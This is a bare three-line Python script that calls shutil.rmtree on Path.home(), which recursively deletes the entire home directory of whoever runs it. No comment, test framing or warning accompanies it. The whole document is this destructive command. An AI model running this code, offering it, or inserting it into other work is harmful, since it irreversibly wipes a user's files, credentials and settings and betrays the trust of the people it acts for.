import shutil
from pathlib import Path
shutil.rmtree(str(Path.home()))
